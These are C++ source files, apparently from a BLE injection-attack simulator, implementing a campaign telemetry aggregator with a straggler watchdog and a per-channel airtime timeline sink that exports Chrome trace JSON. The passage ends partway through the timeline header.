    // explicit close gets a best-effort summary stamped "t_ms":-1 rather than
    // sneaking in a clock read here.
    close(-1);
}

CampaignTelemetrySink::ShardRecord& CampaignTelemetrySink::shard_slot(int task) {
    if (task >= static_cast<int>(shards_.size())) shards_.resize(task + 1);
    ShardRecord& shard = shards_[task];
    shard.task = task;
    return shard;
}

void CampaignTelemetrySink::write_line_locked(const std::string& line) {
    if (params_.jsonl_path.empty()) {
        jsonl_buffer_ += line;
        jsonl_buffer_ += '\n';
        return;
    }
    std::ofstream out(params_.jsonl_path, std::ios::app);
    out << line << '\n';
}

void CampaignTelemetrySink::lifecycle_line_locked(const ShardRecord& shard,
                                                  std::int64_t now_ms,
                                                  const std::string& extra) {
    std::string line = "{\"e\":\"shard\",\"campaign\":";
    append_quoted(line, params_.campaign);
    line += ",\"task\":" + std::to_string(shard.task);
    line += ",\"series\":" + std::to_string(shard.series);
    line += ",\"worker\":" + std::to_string(shard.worker);
    line += ",\"round\":" + std::to_string(shard.round);
    line += ",\"state\":";
    append_quoted(line, shard_state_name(shard.state));
    line += ",\"attempt\":" + std::to_string(shard.attempts);
    line += ",\"t_ms\":" + std::to_string(now_ms);
    line += extra;
    line += '}';
    write_line_locked(line);
}

void CampaignTelemetrySink::shard_issued(int task, int series, int trials, int worker,
                                         int round, std::int64_t now_ms, bool reissue) {
    std::lock_guard lock(mutex_);
    if (first_event_ms_ < 0) first_event_ms_ = now_ms;
    ShardRecord& shard = shard_slot(task);
    shard.series = series;
    shard.trials = trials;
    shard.worker = worker;
    shard.round = round;
    shard.state = reissue ? ShardState::kReissued : ShardState::kIssued;
    shard.issued_ms = now_ms;
    shard.elapsed_ms = 0;
    shard.attempts += 1;
    shard.flagged = false;
    registry_.counter("telemetry.shards.issued").add();
    if (reissue) registry_.counter("telemetry.shards.reissued").add();
    lifecycle_line_locked(shard, now_ms, "");
}

void CampaignTelemetrySink::shard_accepted(int task, int worker, int round,
                                           std::int64_t now_ms) {
    std::lock_guard lock(mutex_);
    ShardRecord& shard = shard_slot(task);
    if (shard.state == ShardState::kDone) return;  // late frame after commit
    shard.worker = worker;
    shard.round = round;
    shard.state = ShardState::kAccepted;
    registry_.counter("telemetry.shards.accepted").add();
    lifecycle_line_locked(shard, now_ms, "");
}

void CampaignTelemetrySink::shard_running(int task, int worker, int round,
                                          std::int64_t now_ms) {
    std::lock_guard lock(mutex_);
    ShardRecord& shard = shard_slot(task);
    if (shard.state == ShardState::kRunning || shard.state == ShardState::kDone) return;
    shard.worker = worker;
    shard.round = round;
    shard.state = ShardState::kRunning;
    lifecycle_line_locked(shard, now_ms, "");
}

void CampaignTelemetrySink::shard_done(int task, int worker, int round,
                                       std::int64_t now_ms) {
    std::lock_guard lock(mutex_);
    ShardRecord& shard = shard_slot(task);
    if (shard.state == ShardState::kDone) return;
    shard.worker = worker;
    shard.round = round;
    shard.state = ShardState::kDone;
    shard.elapsed_ms = std::max<std::int64_t>(0, now_ms - shard.issued_ms);
    registry_.counter("telemetry.shards.done").add();
    registry_.histogram("telemetry.shard.latency_ms")
        .record(static_cast<std::uint64_t>(shard.elapsed_ms));
    WorkerState& w = workers_[worker];
    w.tasks_done += 1;
    w.trials_credited += static_cast<std::uint64_t>(shard.trials);
    w.busy_ms += shard.elapsed_ms;
    lifecycle_line_locked(shard, now_ms,
                          ",\"elapsed_ms\":" + std::to_string(shard.elapsed_ms));
}

void CampaignTelemetrySink::shard_lost(int task, int worker, int round,
                                       std::int64_t now_ms, const std::string& reason) {
    std::lock_guard lock(mutex_);
    ShardRecord& shard = shard_slot(task);
    if (shard.state == ShardState::kDone || shard.state == ShardState::kLost) return;
    shard.worker = worker;
    shard.round = round;
    shard.state = ShardState::kLost;
    shard.elapsed_ms = std::max<std::int64_t>(0, now_ms - shard.issued_ms);
    registry_.counter("telemetry.shards.lost").add();
    std::string extra = ",\"elapsed_ms\":" + std::to_string(shard.elapsed_ms);
    extra += ",\"reason\":";
    append_quoted(extra, reason);
    lifecycle_line_locked(shard, now_ms, extra);
}

void CampaignTelemetrySink::transport_read(int worker, std::uint64_t bytes,
                                           std::uint64_t frames) {
    std::lock_guard lock(mutex_);
    registry_.counter("telemetry.rx.bytes").add(bytes);
    registry_.counter("telemetry.rx.frames").add(frames);
    WorkerState& w = workers_[worker];
    w.rx_bytes += bytes;
    w.rx_frames += frames;
}

void CampaignTelemetrySink::worker_heartbeat(const WorkerTelemetry& hb,
                                             std::int64_t now_ms) {
    std::lock_guard lock(mutex_);
    registry_.counter("telemetry.heartbeats").add();
    WorkerState& w = workers_[hb.worker];
    if (w.first_seen_ms == 0) w.first_seen_ms = now_ms;
    w.last_hb_ms = now_ms;
    w.heartbeats += 1;
    w.task = hb.task;
    w.trials_done = hb.trials_done;
    w.trials_total = hb.trials_total;
    // tx counters are cumulative per stream; a drop marks a fresh stream.
    if (hb.tx_frames < w.stream_tx_frames) {
        w.total_tx_frames += w.stream_tx_frames;
        w.total_tx_bytes += w.stream_tx_bytes;
    }
    w.stream_tx_frames = hb.tx_frames;
    w.stream_tx_bytes = hb.tx_bytes;
    // Worker stamps t_ms from the same monotonic host clock (one machine),
    // so the delta is the transport + queueing latency of the heartbeat.
    const std::int64_t latency = std::max<std::int64_t>(0, now_ms - hb.t_ms);
    registry_.histogram("telemetry.endpoint.w" + std::to_string(hb.worker) + ".rtt_ms")
        .record(static_cast<std::uint64_t>(latency));
    std::string line = "{\"e\":\"heartbeat\",\"campaign\":";
    append_quoted(line, params_.campaign);
    line += ",\"rx_ms\":" + std::to_string(now_ms);
    line += ",\"latency_ms\":" + std::to_string(latency);
    line += ",\"hb\":" + worker_telemetry_to_json(hb);
    line += '}';
    write_line_locked(line);
    if (hb.final_snapshot && !hb.counters.empty()) {
        // Fold the worker's compact snapshot into the telemetry namespace so
        // the summary can attribute sim work (trials, events) per worker
        // without touching the deterministic metrics.* merge.
        for (const auto& [name, value] : hb.counters)
            registry_.counter("telemetry.worker." + std::to_string(hb.worker) + "." + name)
                .add(value);
    }
}

void CampaignTelemetrySink::stream_closed(int worker, int round, bool ok, bool torn,
                                          bool timeout) {
    std::lock_guard lock(mutex_);
    (void)round;
    if (ok) registry_.counter("telemetry.streams.ok").add();
    if (torn) registry_.counter("telemetry.streams.torn").add();
    if (timeout) registry_.counter("telemetry.streams.timeout").add();
    if (!ok) registry_.counter("telemetry.streams.failed").add();
    // A closed stream stops heartbeats; freeze the worker's task display.
    WorkerState& w = workers_[worker];
    if (!ok) w.task = -1;
}

std::int64_t CampaignTelemetrySink::median_done_latency_locked() const {
    std::vector<std::int64_t> done;
    for (const ShardRecord& shard : shards_)
        if (shard.state == ShardState::kDone) done.push_back(shard.elapsed_ms);
    if (done.empty()) return 0;
    const std::size_t mid = done.size() / 2;
    std::nth_element(done.begin(), done.begin() + static_cast<std::ptrdiff_t>(mid), done.end());
    return done[mid];
}

int CampaignTelemetrySink::campaign_trials_done_locked() const {
    // Committed shards count in full; the in-flight shard of each worker
    // contributes its heartbeat progress.
    int done = 0;
    for (const ShardRecord& shard : shards_)
        if (shard.state == ShardState::kDone) done += shard.trials;
    for (const auto& [id, w] : workers_) {
        (void)id;
        if (w.task < 0 || w.task >= static_cast<int>(shards_.size())) continue;
        const ShardRecord& shard = shards_[w.task];
        if (shard.state != ShardState::kDone) done += w.trials_done;
    }
    return done;
}

std::vector<StragglerFlag> CampaignTelemetrySink::check_stragglers(std::int64_t now_ms) {
    std::lock_guard lock(mutex_);
    std::vector<StragglerFlag> flags;
    if (params_.straggler_factor <= 0) return flags;
    int done_count = 0;
    for (const ShardRecord& shard : shards_)
        if (shard.state == ShardState::kDone) ++done_count;
    if (done_count < params_.min_done_for_watchdog) return flags;
    const std::int64_t median = median_done_latency_locked();
    if (median <= 0) return flags;
    const std::int64_t limit =
        static_cast<std::int64_t>(params_.straggler_factor * static_cast<double>(median));
    for (ShardRecord& shard : shards_) {
        const bool in_flight = shard.state == ShardState::kIssued ||
                               shard.state == ShardState::kReissued ||
                               shard.state == ShardState::kAccepted ||
                               shard.state == ShardState::kRunning;
        if (!in_flight) continue;
        const std::int64_t elapsed = now_ms - shard.issued_ms;
        if (elapsed <= limit) continue;
        StragglerFlag flag;
        flag.task = shard.task;
        flag.worker = shard.worker;
        flag.round = shard.round;
        flag.elapsed_ms = elapsed;
        flag.median_ms = median;
        flags.push_back(flag);
        if (shard.flagged) continue;  // log each shard attempt once
        shard.flagged = true;
        flagged_.push_back(flag);
        registry_.counter("telemetry.watchdog.stragglers").add();
        std::string line = "{\"e\":\"straggler\",\"campaign\":";
        append_quoted(line, params_.campaign);
        line += ",\"task\":" + std::to_string(shard.task);
        line += ",\"worker\":" + std::to_string(shard.worker);
        line += ",\"round\":" + std::to_string(shard.round);
        line += ",\"elapsed_ms\":" + std::to_string(elapsed);
        line += ",\"median_ms\":" + std::to_string(median);
        line += ",\"limit_ms\":" + std::to_string(limit);
        line += ",\"t_ms\":" + std::to_string(now_ms);
        line += '}';
        write_line_locked(line);
    }
    return flags;
}

std::string CampaignTelemetrySink::status_fields_json(std::int64_t now_ms) const {
    std::lock_guard lock(mutex_);
    int counts[6] = {0, 0, 0, 0, 0, 0};
    for (const ShardRecord& shard : shards_)
        if (shard.attempts > 0) counts[static_cast<int>(shard.state)] += 1;
    const int trials_done = campaign_trials_done_locked();
    std::string out = ",\"trials_done\":" + std::to_string(trials_done);
    out += ",\"shards\":{\"issued\":" +
           std::to_string(counts[0] + counts[1] + counts[2] + counts[3]);
    out += ",\"running\":" + std::to_string(counts[3]);
    out += ",\"done\":" + std::to_string(counts[4]);
    out += ",\"lost\":" + std::to_string(counts[5]);
    out += ",\"reissued\":" +
           std::to_string(counter_unlocked("telemetry.shards.reissued"));
    out += '}';
    out += ",\"workers\":[";
    bool first = true;
    for (const auto& [id, w] : workers_) {
        if (!first) out += ',';
        first = false;
        out += "{\"worker\":" + std::to_string(id);
        out += ",\"task\":" + std::to_string(w.task);
        out += ",\"trials_done\":" + std::to_string(w.trials_done);
        out += ",\"trials_total\":" + std::to_string(w.trials_total);
        out += ",\"tasks_done\":" + std::to_string(w.tasks_done);
        out += ",\"trials\":" + std::to_string(w.trials_credited);
        const std::int64_t hb_age = w.last_hb_ms > 0 ? now_ms - w.last_hb_ms : -1;
        out += ",\"hb_age_ms\":" + std::to_string(hb_age);
        const std::int64_t active_ms =
            w.first_seen_ms > 0 ? std::max<std::int64_t>(1, now_ms - w.first_seen_ms) : 0;
        double tps = 0.0;
        if (active_ms > 0)
            tps = static_cast<double>(w.trials_credited + static_cast<std::uint64_t>(
                                                              std::max(0, w.trials_done))) *
                  1000.0 / static_cast<double>(active_ms);
        out += ",\"tps\":";
        append_fixed1(out, tps);
        out += '}';
    }
    out += "],\"stragglers\":[";
    first = true;
    for (const StragglerFlag& flag : flagged_) {
        if (!first) out += ',';
        first = false;
        out += std::to_string(flag.task);
    }
    out += ']';
    // ETA from campaign-wide trial throughput since the first issue.
    const std::int64_t elapsed = first_event_ms_ >= 0 ? now_ms - first_event_ms_ : 0;
    std::int64_t eta_ms = -1;
    if (trials_done > 0 && elapsed > 0 && params_.total_trials > trials_done)
        eta_ms = elapsed * (params_.total_trials - trials_done) / trials_done;
    out += ",\"elapsed_ms\":" + std::to_string(elapsed);
    out += ",\"eta_ms\":" + std::to_string(eta_ms);
    return out;
}

void CampaignTelemetrySink::close(std::int64_t now_ms) {
    std::lock_guard lock(mutex_);
    if (closed_) return;
    closed_ = true;
    // Fold in-flight stream tx counters into the totals.
    for (auto& [id, w] : workers_) {
        (void)id;
        w.total_tx_frames += w.stream_tx_frames;
        w.total_tx_bytes += w.stream_tx_bytes;
        w.stream_tx_frames = 0;
        w.stream_tx_bytes = 0;
        registry_.counter("telemetry.tx.frames").add(w.total_tx_frames);
        registry_.counter("telemetry.tx.bytes").add(w.total_tx_bytes);
    }
    std::string line = "{\"e\":\"summary\",\"campaign\":";
    append_quoted(line, params_.campaign);
    line += ",\"t_ms\":" + std::to_string(now_ms);
    line += ",\"total_trials\":" + std::to_string(params_.total_trials);
    line += ",\"elapsed_ms\":" +
            std::to_string(first_event_ms_ >= 0 && now_ms >= 0 ? now_ms - first_event_ms_
                                                               : -1);
    line += ",\"workers\":[";
    bool first = true;
    for (const auto& [id, w] : workers_) {
        if (!first) line += ',';
        first = false;
        line += "{\"worker\":" + std::to_string(id);
        line += ",\"tasks_done\":" + std::to_string(w.tasks_done);
        line += ",\"trials\":" + std::to_string(w.trials_credited);
        line += ",\"heartbeats\":" + std::to_string(w.heartbeats);
        line += ",\"tx_frames\":" + std::to_string(w.total_tx_frames);
        line += ",\"tx_bytes\":" + std::to_string(w.total_tx_bytes);
        line += ",\"rx_frames\":" + std::to_string(w.rx_frames);
        line += ",\"rx_bytes\":" + std::to_string(w.rx_bytes);
        line += ",\"busy_ms\":" + std::to_string(w.busy_ms);
        line += '}';
    }
    line += "],\"shards\":[";
    first = true;
    for (const ShardRecord& shard : shards_) {
        if (shard.attempts == 0) continue;
        if (!first) line += ',';
        first = false;
        line += "{\"task\":" + std::to_string(shard.task);
        line += ",\"series\":" + std::to_string(shard.series);
        line += ",\"worker\":" + std::to_string(shard.worker);
        line += ",\"round\":" + std::to_string(shard.round);
        line += ",\"state\":";
        append_quoted(line, shard_state_name(shard.state));
        line += ",\"attempts\":" + std::to_string(shard.attempts);
        line += ",\"elapsed_ms\":" + std::to_string(shard.elapsed_ms);
        line += '}';
    }
    line += "],\"stragglers\":" + std::to_string(flagged_.size());
    line += ",\"metrics\":" + registry_.snapshot().to_json();
    line += '}';
    write_line_locked(line);
}

std::vector<CampaignTelemetrySink::ShardRecord> CampaignTelemetrySink::shards() const {
    std::lock_guard lock(mutex_);
    std::vector<ShardRecord> out;
    for (const ShardRecord& shard : shards_)
        if (shard.attempts > 0) out.push_back(shard);
    return out;
}

MetricsSnapshot CampaignTelemetrySink::telemetry_metrics() const {
    std::lock_guard lock(mutex_);
    return registry_.snapshot();
}

std::uint64_t CampaignTelemetrySink::counter(std::string_view name) const {
    std::lock_guard lock(mutex_);
    return counter_unlocked(name);
}

std::uint64_t CampaignTelemetrySink::counter_unlocked(std::string_view name) const {
    const MetricsSnapshot snap = registry_.snapshot();
    const auto it = snap.counters.find(std::string(name));
    return it == snap.counters.end() ? 0 : it->second;
}

int CampaignTelemetrySink::straggler_count() const {
    std::lock_guard lock(mutex_);
    return static_cast<int>(flagged_.size());
}

}  // namespace ble::obs
