// Campaign-wide telemetry: the wall-clock observability layer that spans
// the leader/worker process boundary.
//
// Every observability layer below this one (MetricsRegistry, the prof
// self-profiler, Chrome timelines) is strictly deterministic: a pure function
// of (config, seed), merged in trial-index order, bit-identical for any
// worker count.  A *distributed* campaign needs the opposite kind of data —
// which shard is slow, which worker went silent, how many bytes a transport
// moved — and all of it is host wall time by nature.  This module keeps the
// two worlds apart by construction:
//
//  * every value derived from the host clock lives under the `telemetry.*`
//    metric namespace and in a separate JSONL campaign log, never in series
//    records, metrics.* / prof.* snapshots, or traces;
//  * the only wall-clock read of the whole path is ble::telemetry_now_ns()
//    (src/common/time.hpp), behind a single audited lint allow(D2) — callers
//    here take explicit `now_ms` parameters so tests drive a fake clock.
//
// CampaignTelemetrySink is the leader-side aggregator: shard lifecycle spans
// (issued → accepted → running → done | lost, re-issued on later rounds),
// per-endpoint transport counters and heartbeat round-trip histograms,
// per-worker attribution, and the straggler watchdog that flags shards
// exceeding a configurable multiple of the median completed-shard latency.
// It appends one JSON line per event to the campaign telemetry log (the CI
// artifact campaign_report --telemetry consumes) and closes the log with a
// summary record.  All methods are thread-safe: endpoint reader threads and
// the leader's watchdog call concurrently.
#pragma once

#include <cstdint>
#include <map>
#include <mutex>
#include <string>
#include <string_view>
#include <vector>

#include "obs/metrics.hpp"

namespace ble::obs {

/// Shard lifecycle.  kReissued marks a later-round issue of a task an
/// earlier attempt lost; the remaining states describe the current attempt.
enum class ShardState : std::uint8_t {
    kIssued = 0,
    kReissued = 1,
    kAccepted = 2,  ///< worker confirmed the task (TaskStart arrived)
    kRunning = 3,   ///< first trial progress arrived
    kDone = 4,      ///< TaskDone committed
    kLost = 5,      ///< stream died before TaskDone; task returns to pending
};

[[nodiscard]] const char* shard_state_name(ShardState state) noexcept;

/// Compact histogram total (count + sum) — the over-the-wire form of a
/// HistogramSnapshot in worker telemetry frames.
struct HistTotal {
    std::uint64_t n = 0;
    std::uint64_t sum = 0;
    friend bool operator==(const HistTotal&, const HistTotal&) = default;
};

/// One worker heartbeat / task-end snapshot as it travels the campaign wire
/// (src/campaign encodes this as the Telemetry frame).  `t_ms` is the
/// worker-side telemetry clock; counters/hists are empty on periodic
/// heartbeats and carry the compact MetricsRegistry + prof.* span totals on
/// the task-end snapshot (final_snapshot == true).
struct WorkerTelemetry {
    int worker = -1;
    int task = -1;
    std::int64_t t_ms = 0;
    int trials_done = 0;
    int trials_total = 0;
    std::uint64_t tx_frames = 0;  ///< frames this worker wrote so far (stream-cumulative)
    std::uint64_t tx_bytes = 0;
    bool final_snapshot = false;
    std::map<std::string, std::uint64_t> counters;
    std::map<std::string, HistTotal> hists;

    friend bool operator==(const WorkerTelemetry&, const WorkerTelemetry&) = default;
};

/// One watchdog flag: a running shard whose elapsed time exceeds
/// straggler_factor × the median completed-shard latency.
struct StragglerFlag {
    int task = -1;
    int worker = -1;
    int round = 0;
    std::int64_t elapsed_ms = 0;
    std::int64_t median_ms = 0;
};

struct TelemetrySinkParams {
    std::string campaign;     ///< plan name, stamped into every JSONL line
    std::string jsonl_path;   ///< telemetry log path ("" keeps it in memory)
    int total_trials = 0;     ///< campaign trial count (ETA denominator)
    /// A running shard is flagged once its elapsed time exceeds this multiple
    /// of the median completed-shard latency.  <= 0 disables the watchdog.
    double straggler_factor = 4.0;
    /// Completed shards required before the watchdog arms (a median over one
    /// or two samples flags noise, not stragglers).
    int min_done_for_watchdog = 3;
};

class CampaignTelemetrySink {
public:
    explicit CampaignTelemetrySink(TelemetrySinkParams params);
    ~CampaignTelemetrySink();
    CampaignTelemetrySink(const CampaignTelemetrySink&) = delete;
    CampaignTelemetrySink& operator=(const CampaignTelemetrySink&) = delete;

    // -- shard lifecycle (leader calls; `trials` rides the issue event so
    //    per-worker attribution can credit completed trials) ----------------
    void shard_issued(int task, int series, int trials, int worker, int round,
                      std::int64_t now_ms, bool reissue);
    void shard_accepted(int task, int worker, int round, std::int64_t now_ms);
    void shard_running(int task, int worker, int round, std::int64_t now_ms);
    void shard_done(int task, int worker, int round, std::int64_t now_ms);
    void shard_lost(int task, int worker, int round, std::int64_t now_ms,
                    const std::string& reason);

    // -- transport + worker telemetry --------------------------------------
    /// Leader-side receive accounting for one endpoint stream read.
    void transport_read(int worker, std::uint64_t bytes, std::uint64_t frames);
    /// One decoded worker Telemetry frame; `now_ms` - hb.t_ms is the
    /// heartbeat transport latency (same monotonic clock on one host).
    void worker_heartbeat(const WorkerTelemetry& hb, std::int64_t now_ms);
    /// Stream teardown: ok = orderly EOF; torn/timeout classify failures.
    void stream_closed(int worker, int round, bool ok, bool torn, bool timeout);

    // -- watchdog + status --------------------------------------------------
    /// Evaluates running shards against the median completed-shard latency;
    /// logs and returns shards newly (or still) over the limit.  Each shard
    /// attempt is logged at most once.
    std::vector<StragglerFlag> check_stragglers(std::int64_t now_ms);

    /// Extra status-document fields for the live dashboard, starting with a
    /// comma (spliced into the leader's status JSON before its closing '}'):
    /// trials done, shard state counts, per-worker throughput/heartbeat-age,
    /// flagged stragglers, ETA.
    [[nodiscard]] std::string status_fields_json(std::int64_t now_ms) const;

    /// Writes the closing summary line (per-worker attribution, final shard
    /// spans, the telemetry.* snapshot).  Idempotent.
    void close(std::int64_t now_ms);

    // -- inspection (tests, campaign_ctl) -----------------------------------
    struct ShardRecord {
        int task = -1;
        int series = 0;
        int trials = 0;
        int worker = -1;
        int round = 0;
        ShardState state = ShardState::kIssued;
        std::int64_t issued_ms = 0;
        std::int64_t elapsed_ms = 0;  ///< set on done/lost
        int attempts = 0;             ///< issue count (1 + re-issues)
        bool flagged = false;         ///< straggler-flagged this attempt
    };
    [[nodiscard]] std::vector<ShardRecord> shards() const;
    /// All telemetry.* counters/gauges/histograms accumulated so far.
    [[nodiscard]] MetricsSnapshot telemetry_metrics() const;
    [[nodiscard]] std::uint64_t counter(std::string_view name) const;
    [[nodiscard]] int straggler_count() const;
    [[nodiscard]] const std::string& jsonl_path() const noexcept {
        return params_.jsonl_path;
    }

private:
    struct WorkerState {
        int task = -1;
        int trials_done = 0;
        int trials_total = 0;
        std::int64_t last_hb_ms = 0;   ///< leader-clock arrival of last heartbeat
        std::int64_t first_seen_ms = 0;
        std::uint64_t heartbeats = 0;
        std::uint64_t rx_frames = 0;
        std::uint64_t rx_bytes = 0;
        // Worker-reported tx counters are cumulative per stream; a drop below
        // the last value marks a new stream and folds the old one into total.
        std::uint64_t stream_tx_frames = 0;
        std::uint64_t stream_tx_bytes = 0;
        std::uint64_t total_tx_frames = 0;
        std::uint64_t total_tx_bytes = 0;
        std::uint64_t tasks_done = 0;
        std::uint64_t trials_credited = 0;
        std::int64_t busy_ms = 0;  ///< sum of completed-shard latencies
    };

    ShardRecord& shard_slot(int task);
    void write_line_locked(const std::string& line);
    void lifecycle_line_locked(const ShardRecord& shard, std::int64_t now_ms,
                               const std::string& extra);
    [[nodiscard]] std::int64_t median_done_latency_locked() const;
    [[nodiscard]] int campaign_trials_done_locked() const;
    [[nodiscard]] std::uint64_t counter_unlocked(std::string_view name) const;

    TelemetrySinkParams params_;
    // guards: registry_, shards_, workers_, flagged_ and the journal writer
    mutable std::mutex mutex_;
    MetricsRegistry registry_;
    std::vector<ShardRecord> shards_;
    std::map<int, WorkerState> workers_;
    std::vector<StragglerFlag> flagged_;
    std::int64_t first_event_ms_ = -1;  ///< leader clock of the first issue
    bool closed_ = false;
    std::string jsonl_buffer_;  ///< in-memory log when jsonl_path is empty
};

/// Formats a WorkerTelemetry as the JSON object both the wire frame and the
/// telemetry log use: {"worker":..,"task":..,"t_ms":..,...,"counters":{...},
/// "hists":{"name":{"n":..,"sum":..},...}}.
[[nodiscard]] std::string worker_telemetry_to_json(const WorkerTelemetry& hb);

/// Builds the compact task-end snapshot from a merged MetricsSnapshot:
/// every counter verbatim, histograms reduced to {n, sum}.  Gauges are
/// dropped (their `last` field is meaningless across shards).
void compact_snapshot(const MetricsSnapshot& snapshot, WorkerTelemetry& out);

}  // namespace ble::obs
