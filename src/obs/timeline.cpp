#include "obs/timeline.hpp"

#include <algorithm>
#include <cstdio>

#include "obs/sinks.hpp"

namespace ble::obs {

Duration OccupancyReport::device_airtime(const std::string& device) const {
    const auto it = per_device.find(device);
    if (it == per_device.end()) return 0;
    Duration total = 0;
    for (const auto& [channel, usage] : it->second) total += usage.airtime;
    return total;
}

Duration OccupancyReport::channel_airtime(std::uint8_t channel) const {
    Duration total = 0;
    for (const auto& [device, channels] : per_device) {
        const auto it = channels.find(channel);
        if (it != channels.end()) total += it->second.airtime;
    }
    return total;
}

double OccupancyReport::duty_cycle(const std::string& device) const {
    const Duration s = span();
    if (s <= 0) return 0.0;
    return static_cast<double>(device_airtime(device)) / static_cast<double>(s);
}

void ChannelOccupancySink::note_time(TimePoint t) noexcept {
    if (!report_.any) {
        report_.first_event = t;
        report_.any = true;
    }
    report_.last_event = std::max(report_.last_event, t);
}

namespace {

/// Trace-event timestamps are microseconds; three decimals keep the full
/// nanosecond resolution and a deterministic rendering.
void append_us(std::string& out, std::int64_t ns) {
    char buf[40];
    std::snprintf(buf, sizeof(buf), "%lld.%03lld", static_cast<long long>(ns / 1000),
                  static_cast<long long>(ns % 1000));
    out += buf;
}

}  // namespace

void ChannelOccupancySink::add_complete(int tid, std::string_view name, std::string_view cat,
                                        TimePoint start, Duration duration,
                                        std::string_view args_json) {
    std::string e;
    e.reserve(96);
    e += "{\"name\":\"";
    append_json_escaped(e, name);
    e += "\",\"cat\":\"";
    append_json_escaped(e, cat);
    e += "\",\"ph\":\"X\",\"ts\":";
    append_us(e, start);
    e += ",\"dur\":";
    append_us(e, duration);
    e += ",\"pid\":0,\"tid\":" + std::to_string(tid);
    if (!args_json.empty()) {
        e += ",\"args\":";
        e += args_json;
    }
    e += '}';
    trace_events_.push_back(std::move(e));
    tids_.insert(tid);
}

void ChannelOccupancySink::add_instant(int tid, std::string_view name, std::string_view cat,
                                       TimePoint time) {
    std::string e;
    e.reserve(96);
    e += "{\"name\":\"";
    append_json_escaped(e, name);
    e += "\",\"cat\":\"";
    append_json_escaped(e, cat);
    e += "\",\"ph\":\"i\",\"s\":\"t\",\"ts\":";
    append_us(e, time);
    e += ",\"pid\":0,\"tid\":" + std::to_string(tid) + '}';
    trace_events_.push_back(std::move(e));
    tids_.insert(tid);
}

void ChannelOccupancySink::on_event(const Event& event) {
    struct Visitor {
        ChannelOccupancySink& self;

        void operator()(const TxStart& e) const {
            self.note_time(e.time);
            self.note_time(e.time + e.duration);

            auto& usage = self.report_.per_device[std::string(e.sender)][e.channel];
            ++usage.frames;
            usage.airtime += e.duration;

            // Pairwise overlap with frames still in flight on this channel.
            auto& flights = self.in_flight_[e.channel];
            std::erase_if(flights, [&](const InFlight& f) { return f.end <= e.time; });
            const TimePoint end = e.time + e.duration;
            for (const InFlight& f : flights) {
                const Duration overlap = std::min(f.end, end) - e.time;
                if (overlap > 0) self.report_.collision_overlap[e.channel] += overlap;
            }
            flights.push_back(InFlight{e.time, end});

            std::string args = "{\"bytes\":" + std::to_string(e.bytes.size()) +
                               ",\"tx_id\":" + std::to_string(e.tx_id) + '}';
            self.add_complete(e.channel, e.sender, "tx", e.time, e.duration, args);
        }
        void operator()(const RxDecision& e) const {
            self.note_time(e.time);
            std::string name = "rx:";
            name += e.receiver;
            name += ':';
            name += rx_verdict_name(e.verdict);
            self.add_instant(e.channel, name, "rx", e.time);
        }
        void operator()(const ConnEvent& e) const {
            self.note_time(e.time);
            if (e.kind == ConnEvent::Kind::kEventClosed) return;  // too chatty to plot
            std::string name = e.kind == ConnEvent::Kind::kOpened ? "conn-open:" : "conn-close:";
            name += e.device;
            self.add_instant(kTimelineMarkerRow, name, "conn", e.time);
        }
        void operator()(const WindowWiden& e) const {
            self.note_time(e.time);
            std::string name = "window:";
            name += e.device;
            if (e.missed) name += " (missed)";
            // The receive window: widening on both anchor sides plus the
            // transmit window itself.
            self.add_complete(e.channel, name, "widen", e.time, 2 * e.widening + e.window);
        }
        void operator()(const InjectionAttempt& e) const {
            self.note_time(e.time);
            std::string name = "attempt " + std::to_string(e.attempt);
            name += e.heuristic_success ? " (win)" : " (miss)";
            self.add_instant(e.channel, name, "attempt", e.time);
        }
        void operator()(const IdsAlert& e) const {
            self.note_time(e.time);
            std::string name = "ids:";
            name += e.type_name;
            self.add_instant(kTimelineMarkerRow, name, "ids", e.time);
        }
        void operator()(const TrialPhase& e) const {
            self.note_time(e.time);
            std::string name = "phase:";
            name += e.phase;
            self.add_instant(kTimelineMarkerRow, name, "phase", e.time);
        }
    };
    std::visit(Visitor{*this}, event);
}

std::string ChannelOccupancySink::chrome_trace_json() const {
    std::string out;
    std::size_t total = 64;
    for (const auto& e : trace_events_) total += e.size() + 1;
    out.reserve(total + tids_.size() * 96);
    out += "{\"displayTimeUnit\":\"ms\",\"traceEvents\":[";
    bool first = true;
    auto add = [&](const std::string& e) {
        if (!first) out += ',';
        first = false;
        out += e;
    };
    add("{\"name\":\"process_name\",\"ph\":\"M\",\"pid\":0,\"args\":{\"name\":\"BLE air "
        "(rows = channels)\"}}");
    for (const int tid : tids_) {
        std::string name = tid == kTimelineMarkerRow ? std::string("markers")
                                                     : "ch " + std::to_string(tid);
        add("{\"name\":\"thread_name\",\"ph\":\"M\",\"pid\":0,\"tid\":" + std::to_string(tid) +
            ",\"args\":{\"name\":\"" + name + "\"}}");
        // Sort rows by channel index in the viewer.
        add("{\"name\":\"thread_sort_index\",\"ph\":\"M\",\"pid\":0,\"tid\":" +
            std::to_string(tid) + ",\"args\":{\"sort_index\":" + std::to_string(tid) + "}}");
    }
    for (const auto& e : trace_events_) add(e);
    out += "]}";
    return out;
}

bool ChannelOccupancySink::write_chrome_trace(const std::string& path) const {
    const std::string doc = chrome_trace_json();
    FILE* f = std::fopen(path.c_str(), "w");
    if (f == nullptr) return false;
    bool ok = std::fwrite(doc.data(), 1, doc.size(), f) == doc.size();
    if (std::fclose(f) != 0) ok = false;
    return ok;
}

void ChannelOccupancySink::clear() {
    report_ = OccupancyReport{};
    in_flight_.clear();
    trace_events_.clear();
    tids_.clear();
}

}  // namespace ble::obs
