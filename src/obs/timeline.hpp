// ChannelOccupancySink: who owned the air, when, on which channel.
//
// The injection race is a timing story — the attacker's frame must occupy the
// channel before the legitimate master's (paper §V, Fig. 5) — so the most
// direct way to audit a trial is its airtime timeline.  This sink folds the
// bus's TxStart stream into per-device / per-channel airtime, duty cycle and
// collision-overlap time, and renders the whole trial as a Chrome trace-event
// JSON file (load it in chrome://tracing or https://ui.perfetto.dev): one
// timeline row per BLE channel, a frame per transmission, instants for
// injection attempts, widened windows, IDS alerts and trial phases.
//
// Like every obs sink it is single-threaded per world; attach one per trial.
#pragma once

#include <cstdint>
#include <map>
#include <set>
#include <string>
#include <vector>

#include "obs/bus.hpp"

namespace ble::obs {

struct ChannelUsage {
    std::uint64_t frames = 0;
    Duration airtime = 0;
};

struct OccupancyReport {
    bool any = false;  ///< at least one event observed
    TimePoint first_event = 0;
    TimePoint last_event = 0;
    /// device name -> channel -> usage (TxStart aggregation).
    std::map<std::string, std::map<std::uint8_t, ChannelUsage>> per_device;
    /// channel -> time two or more frames overlapped (pairwise overlap sum).
    std::map<std::uint8_t, Duration> collision_overlap;

